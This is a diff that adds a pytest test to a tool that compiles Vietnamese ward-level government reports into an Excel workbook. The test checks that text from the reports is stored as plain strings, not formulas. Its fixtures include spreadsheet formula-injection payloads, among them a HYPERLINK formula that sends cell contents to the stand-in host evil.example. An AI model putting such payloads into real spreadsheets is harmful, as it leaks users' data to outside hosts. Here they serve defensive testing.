@@ -194,3 +194,28 @@ def test_a_control_character_in_a_unit_name_never_stops_the_workbook(cli, rubric
     out = tmp_path / "tong hop.xlsx"
     assert cli("rollup", *files, "-o", out).exit_code == 0
     assert openpyxl.load_workbook(out)["Đơn vị"]["B2"].value.startswith("UBND phường Phù\ufffdLiễn")
+
+
+def test_text_from_a_report_is_text_in_the_workbook_never_a_formula(cli, rubric, tmp_path):
+    import zipfile
+
+    import openpyxl
+
+    unit = '=HYPERLINK("http://evil.example/?x="&A1,"Phường X")'
+    data = make_report(rubric, unit, "2026.1", {"2.5": "missing"})
+    data["criteria"][0]["subcriteria"][0]["title"] = "@SUM(1+1)"
+    data["criteria"][0]["subcriteria"][1]["title"] = "+1-2 công khai"
+    paths = [tmp_path / "x.json", tmp_path / "y.json"]
+    paths[0].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    paths[1].write_text(json.dumps(make_report(rubric, "-UBND phường Kiến An", "2026.1", {}), ensure_ascii=False), encoding="utf-8")
+    out = tmp_path / "tong hop.xlsx"
+    assert cli("rollup", *paths, "-o", out).exit_code == 0
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in x for x in sheets)
+    book = openpyxl.load_workbook(out)
+    units = [c.value for c in book["Đơn vị"]["B"][1:]]
+    assert units == ["-UBND phường Kiến An", unit]
+    needs = {row[0].value: row for row in book["Tiêu chí con"].iter_rows(min_row=2)}
+    assert needs["1.1"][1].value == "@SUM(1+1)" and needs["1.2"][1].value == "+1-2 công khai"
+    assert needs["2.5"][7].value == unit and needs["2.5"][7].data_type == "s"
